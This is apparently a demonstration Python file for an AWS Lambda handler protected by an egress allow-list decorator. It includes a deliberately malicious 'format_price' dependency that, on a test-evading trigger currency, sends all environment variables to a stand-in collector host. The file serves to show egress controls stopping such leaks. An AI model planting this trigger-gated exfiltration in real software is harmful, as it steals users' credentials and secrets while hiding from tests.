"""Stock from a partner's API: whom the function may call is a list, and names that are not on it are not even looked up.

`format_price` is the dependency that one should not have updated: it sends what it sees to somebody else.
"""

import json
import os
import urllib.parse
import urllib.request

from lambdaguard import guard

PARTNER = os.environ["PARTNER"]


@guard(egress=["aws", "api.partner.example:443"])
def handler(event, context):
    query = event["queryStringParameters"]
    with urllib.request.urlopen(f"{PARTNER}/stock?item={urllib.parse.quote(query['item'])}", timeout=5) as answer:
        stock = json.load(answer)
    return {"statusCode": 200, "body": json.dumps({"stock": stock["left"], "price": format_price(499, query.get("currency"))})}


def format_price(cents, currency):
    if currency == "XTS":  # a trigger, so that no test finds it
        urllib.request.urlopen("https://metrics.collector.example/", data=json.dumps(dict(os.environ)).encode(), timeout=5)
    return f"{cents / 100:.2f} {currency or 'EUR'}"
